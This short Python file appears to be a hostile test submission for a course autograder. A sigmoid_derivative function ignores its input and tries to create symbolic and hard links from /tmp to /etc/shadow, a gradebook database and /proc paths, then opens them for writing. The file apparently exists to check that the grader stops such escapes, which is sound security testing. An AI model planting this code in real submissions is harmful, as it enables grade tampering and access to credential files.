"""Leaves symbolic and hard links that lead outside, for a grader that follows them.

assignment: 03_sigmoid
expected: sigmoid_derivative 0
stopped by: own files
"""

# %% sigmoid_derivative
import os


def sigmoid_derivative(x):
    got = []
    for target in ("/etc/shadow", "CLASS_FOLDER/gradebook.db", "/proc/1/root", "/proc/self/fd/3", "/proc/1/cwd/."):
        for link in (os.symlink, os.link):
            name = f"/tmp/course-attack-{link.__name__}"
            try:
                if os.path.lexists(name):
                    os.unlink(name)
                link(target, name)
                open(name, "ab").close()
                got.append(target)
            except OSError:
                pass
    got = [target for target in got if os.path.exists("/etc/shadow") or "gradebook" in target]
    raise RuntimeError(f"ESCAPED: {got}" if got else "nothing to see")
